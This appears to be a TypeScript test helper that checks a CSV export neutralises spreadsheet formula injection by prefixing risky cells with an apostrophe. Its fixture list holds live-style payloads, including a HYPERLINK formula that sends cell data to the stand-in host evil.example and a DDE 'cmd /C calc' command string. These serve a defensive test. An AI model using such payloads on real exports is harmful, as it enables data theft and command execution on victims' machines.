// Reads an export back with a library that knows RFC 4180 only, and says what a cell should hold.
import assert from 'node:assert/strict'
import { parse } from 'csv-parse/sync'
import type { Answer } from './api.ts'

type Cell = string | number | boolean | null
type Row = Record<string, Cell>

/** Texts as people write them, or as somebody writes who wants them to be run; and the cells that they become. */
export const texts: [string, string][] = [
  ['=1+1', "'=1+1"],
  ['=HYPERLINK("http://evil.example/?"&A1;"x")', `'=HYPERLINK("http://evil.example/?"&A1;"x")`],
  ['+49 30 1234567', "'+49 30 1234567"],
  ["-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"],
  ['@SUM(A1:A9)', "'@SUM(A1:A9)"],
  ['\t=1+1', "'\t=1+1"],
  ['\r=1+1', "'\r=1+1"],
  ['\n=1+1', "'\n=1+1"],
  ['＝1+1', "'＝1+1"],
  ['＋1', "'＋1"],
  ['－1', "'－1"],
  ['＠SUM(A1)', "'＠SUM(A1)"],
  ['-5', "'-5"],
  ...same('1=1', ' =1', "'=1", 'x\n=1', '0042', '12.50', 'true', 'null', '', ' ', '\\N', '\\"', '\ufeffx'),
  ...same('Müller; "Söhne", KG', '"', '""', '","', "'", ',', ';', 'one\r\ntwo\nthree\rfour\n', 'end\r\n'),
  ...same('尺寸 🪑 مرحبا', '\u2028\u0085\u000b'),
]

function same(...cells: string[]): [string, string][] {
  return cells.map((cell) => [cell, cell])
}

/** What the rows of a list look like in its export. */
export function inCells(records: object[]): Row[] {
  return (records as Row[]).map((record) =>
    Object.fromEntries(Object.entries(record).map(([name, value]) => [name, defused(value)])),
  )
}

function defused(value: Cell): Cell {
  return typeof value === 'string' && /^[=+\-@\t\r\n＝＋－＠]/.test(value) ? `'${value}` : value
}

/** The names and the rows; in cells without quotes lie null, numbers, booleans and times, in the others text. */
export function readCsv({ status, headers, text, bytes }: Answer): { names: string[]; rows: Row[] } {
  assert.equal(status, 200, text)
  assert.equal(headers['content-type'], 'text/csv; charset=utf-8')
  assert.deepEqual([...bytes.subarray(0, 3)], [0xef, 0xbb, 0xbf], 'a byte order mark')
  assert.ok(text.endsWith('\r\n'), 'the last line is ended')
  const [names = [], ...rows] = parse(bytes, {
    bom: true,
    record_delimiter: '\r\n',
    cast: (cell, { quoting }) => (quoting ? cell : unquoted(cell)),
  }) as unknown as [string[], ...Cell[][]]
  return { names, rows: rows.map((row) => Object.fromEntries(row.map((cell, n) => [names[n], cell]))) }
}

function unquoted(cell: string): Cell {
  if (cell === '') return null
  if (cell === 'true' || cell === 'false') return cell === 'true'
  return /^-?\d+(\.\d+)?$/.test(cell) ? Number(cell) : cell
}
